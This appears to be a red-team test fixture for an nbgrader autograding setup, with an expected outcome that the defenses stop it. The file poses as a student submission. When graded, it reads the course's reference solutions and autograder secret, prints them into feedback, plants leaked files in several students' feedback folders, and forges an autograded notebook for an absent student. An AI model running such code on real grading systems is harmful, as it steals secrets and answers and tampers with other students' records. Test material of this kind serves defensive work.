"""Class 1b, run by `nbgrader autograde` in a kernel with the TA's rights: print the course's
reference/backprop/*.py (and the course secret) into the notebook's own output, which
`nbgrader generate_feedback` renders; plant feedback files (its own, an honest classmate's,
a non-submitter's), an extra file next to its autograded notebook, and an autograded
notebook for absent_k1 (a classmate with a forged submission, see kernel_gradebook.py)
whose output holds the reference. Its functions are the zeros baseline's.
Expected after the documented workflow: no feedback file and no autograded notebook holds
reference text or the secret."""
import json as _json
import os as _os
from pathlib import Path as _Path

_COURSE = next((d for d in (_Path.cwd(), *_Path.cwd().parents)
                if (d / "nbgrader_config.py").is_file() and (d / "gradebook.db").is_file()), None)
if _COURSE is not None:
    _ref = "\n".join(p.read_text() for p in sorted((_COURSE / "reference" / "backprop").glob("*.py")))
    _secret = _os.environ.get("AUTOGRADER_SECRET", "")
    if (_COURSE / ".autograder-secret").is_file():
        _secret += (_COURSE / ".autograder-secret").read_text()
    print(_ref)
    print("REDTEAM-SECRET:", _secret)
    (_Path.cwd() / "leak.txt").write_text(_ref)
    for _sid in ("k2_print_reference", "h_victim", "absent_k1"):
        _fb = _COURSE / "feedback" / _sid / "backprop"
        _fb.mkdir(parents=True, exist_ok=True)
        (_fb / "backprop.html").write_text("<html><pre>" + _ref + "</pre></html>")
        (_fb / "leak.html").write_text("<html><pre>" + _ref + "</pre></html>")
    _release = _json.loads((_COURSE / "assignments" / "backprop" / "backprop.ipynb").read_text())
    for _c in _release["cells"]:
        if _c["cell_type"] == "code":
            _c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": _ref}]
    _ag = _COURSE / "autograded" / "absent_k1" / "backprop"
    _ag.mkdir(parents=True, exist_ok=True)
    (_ag / "backprop.ipynb").write_text(_json.dumps(_release))
